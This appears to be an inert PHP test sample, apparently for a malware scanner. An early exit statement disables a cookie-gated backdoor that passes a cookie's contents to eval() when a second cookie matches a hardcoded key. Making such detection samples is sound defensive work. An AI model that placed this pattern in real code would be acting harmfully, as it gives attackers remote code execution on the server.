<?php // MOGURA TEST SAMPLE — inert
exit; // the sample stops here: nothing below ever runs

if (isset($_COOKIE['sess_k']) && $_COOKIE['sess_k'] === 'e3b0c44298fc1c14') {
    eval(stripslashes($_COOKIE['sess_d']));
}
